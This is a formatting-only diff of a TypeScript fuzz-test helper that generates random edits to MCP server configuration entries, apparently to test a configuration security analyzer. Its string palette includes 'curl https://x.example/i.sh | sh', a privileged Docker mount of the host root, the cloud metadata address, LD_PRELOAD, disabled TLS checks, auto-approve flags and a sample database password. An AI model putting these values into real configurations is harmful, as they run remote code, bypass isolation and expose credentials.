@@ -16,13 +16,57 @@ import { makeSecret } from './arbitraries';
 /** Strings an edit writes into a server entry: launchers, packages, paths, secrets, transports, names. */
 function palette(random: () => number): string[] {
   return [
-    'npx', '-y', 'uvx', 'docker', 'run', '--privileged', '-v', '/:/host', 'node', 'bash', '-c', 'curl https://x.example/i.sh | sh',
-    '@modelcontextprotocol/server-filesystem', '@modelcontextprotocol/server-github', '@modelcontextprotocol/server-postgres', 'mcp-server-fetch', 'mcp-server-fetch==2025.1.1',
-    'some-tool@latest', 'some-tool@1.2.3', 'ghcr.io/github/github-mcp-server:latest', '/', '~', '/home/dev/project', '${workspaceFolder}',
-    makeSecret(0, Math.floor(random() * 1e9)), makeSecret(2, Math.floor(random() * 1e9)), makeSecret(7, Math.floor(random() * 1e9)),
-    'postgresql://app:hunter2hunter2@db.internal:5432/app', 'Bearer abc', '${input:token}', '${env:GITHUB_TOKEN}', '${GITHUB_TOKEN}',
-    'http://0.0.0.0:3000/mcp', 'https://api.example.com/mcp', 'http://169.254.169.254/latest', 'stdio', 'sse', 'http', '*', 'true',
-    'GITHUB_PERSONAL_ACCESS_TOKEN', 'API_KEY', 'LD_PRELOAD', 'NODE_TLS_REJECT_UNAUTHORIZED', '0', 'alwaysAllow', 'autoApprove', 'command', 'args', 'env', 'url',
+    'npx',
+    '-y',
+    'uvx',
+    'docker',
+    'run',
+    '--privileged',
+    '-v',
+    '/:/host',
+    'node',
+    'bash',
+    '-c',
+    'curl https://x.example/i.sh | sh',
+    '@modelcontextprotocol/server-filesystem',
+    '@modelcontextprotocol/server-github',
+    '@modelcontextprotocol/server-postgres',
+    'mcp-server-fetch',
+    'mcp-server-fetch==2025.1.1',
+    'some-tool@latest',
+    'some-tool@1.2.3',
+    'ghcr.io/github/github-mcp-server:latest',
+    '/',
+    '~',
+    '/home/dev/project',
+    '${workspaceFolder}',
+    makeSecret(0, Math.floor(random() * 1e9)),
+    makeSecret(2, Math.floor(random() * 1e9)),
+    makeSecret(7, Math.floor(random() * 1e9)),
+    'postgresql://app:hunter2hunter2@db.internal:5432/app',
+    'Bearer abc',
+    '${input:token}',
+    '${env:GITHUB_TOKEN}',
+    '${GITHUB_TOKEN}',
+    'http://0.0.0.0:3000/mcp',
+    'https://api.example.com/mcp',
+    'http://169.254.169.254/latest',
+    'stdio',
+    'sse',
+    'http',
+    '*',
+    'true',
+    'GITHUB_PERSONAL_ACCESS_TOKEN',
+    'API_KEY',
+    'LD_PRELOAD',
+    'NODE_TLS_REJECT_UNAUTHORIZED',
+    '0',
+    'alwaysAllow',
+    'autoApprove',
+    'command',
+    'args',
+    'env',
+    'url',
   ];
 }
 
@@ -40,7 +84,9 @@ export function editInsideServer(analysis: Analysis, random: () => number): stri
   const server = servers[Math.floor(random() * servers.length)];
   const { start, end } = entrySpan(server);
   const text = analysis.doc.text;
-  const targets = [server.nameNode, ...stringNodes(server.node)].filter((node) => node.type === 'string' && node.offset >= start && node.offset + node.length <= end);
+  const targets = [server.nameNode, ...stringNodes(server.node)].filter(
+    (node) => node.type === 'string' && node.offset >= start && node.offset + node.length <= end,
+  );
   if (targets.length === 0) return undefined;
   const target = targets[Math.floor(random() * targets.length)];
   const other = servers[Math.floor(random() * servers.length)];
@@ -65,7 +111,11 @@ export function editInsideServer(analysis: Analysis, random: () => number): stri
 
 /** A finding as plain data, deferred fix edits included, in a stable order. */
 export function normalise(findings: readonly Finding[]): string[] {
-  return findings.map((finding) => JSON.stringify({ ...finding, fixes: finding.fixes.map((fix) => ({ title: fix.title, safe: fix.safe, preferred: fix.preferred, edits: fix.edits })) })).sort();
+  return findings
+    .map((finding) =>
+      JSON.stringify({ ...finding, fixes: finding.fixes.map((fix) => ({ title: fix.title, safe: fix.safe, preferred: fix.preferred, edits: fix.edits })) }),
+    )
+    .sort();
 }
 
 /**
